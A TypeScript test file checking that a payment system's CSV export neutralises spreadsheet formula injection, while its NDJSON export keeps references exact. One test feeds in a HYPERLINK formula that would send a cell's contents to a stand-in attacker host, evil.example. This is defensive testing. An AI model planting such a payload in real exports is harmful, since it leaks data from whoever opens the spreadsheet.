import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { csvCell } from '../../src/csv.js';
import { admin, bankCall, bankWithToken, paymentBody, putMember } from '../support/bank.js';
import { databaseKinds } from '../support/databases.js';
import { startTestApp, type TestApp } from '../support/test-app.js';

describe('a CSV cell a spreadsheet would run as a formula', () => {
  it('is prefixed with a quote and quoted, for each character OWASP names', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      const value = `${start}HYPERLINK("http://evil.example/?"&A1,"Click")`;
      // A carriage return is a line break, and a line break in a cell becomes a space (csv-line-breaks.test.ts).
      const shown = value.replace(/"/g, '""').replace('\r', ' ');
      assert.equal(csvCell(value), `"'${shown}"`, JSON.stringify(start));
    }
  });

  it('leaves other values as RFC 4180 writes them', () => {
    assert.equal(csvCell('FT26325ABCD'), 'FT26325ABCD');
    assert.equal(csvCell('1500.50'), '1500.50');
    assert.equal(csvCell('Otieno, Peter'), '"Otieno, Peter"');
    assert.equal(csvCell('say "hi"'), '"say ""hi"""');
    assert.equal(csvCell("O'Brien"), "O'Brien", 'a quote inside a value is no formula');
  });
});

for (const kind of databaseKinds()) {
  describe(`the ERP export of references that look like formulas (${kind})`, () => {
    let t: TestApp;
    before(async () => (t = await startTestApp(kind)));
    after(() => t.close());

    it('neutralises them in CSV and keeps them exact in NDJSON', async () => {
      const bank = await bankWithToken(t.app, 'Formula Bank');
      await putMember(t.app, '7200001', 'Mary Njeri');
      await bankCall(t.app, bank.token, 'validate', { customerRef: '7200001' });
      const references = ['=1+2', '+254700000000', '-FT1', '@SUM(A1:A9)', 'FT-PLAIN'];
      for (const transactionReference of references) {
        const paid = await bankCall(t.app, bank.token, 'payments', paymentBody('7200001', { transactionReference }));
        assert.equal(paid.statusCode, 200, paid.body);
      }
      const csv = (await admin(t.app, 'GET', '/payments/export?format=csv')).body.split('\r\n');
      const cells = csv.slice(1, -1).map((line) => line.split(',')[1]);
      assert.deepEqual(cells.sort(), [`"'+254700000000"`, `"'-FT1"`, `"'=1+2"`, `"'@SUM(A1:A9)"`, 'FT-PLAIN'].sort());
      const ndjson = (await admin(t.app, 'GET', '/payments/export?format=ndjson')).body
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line).transactionReference);
      assert.deepEqual(ndjson.sort(), [...references].sort());
    });
  });
}
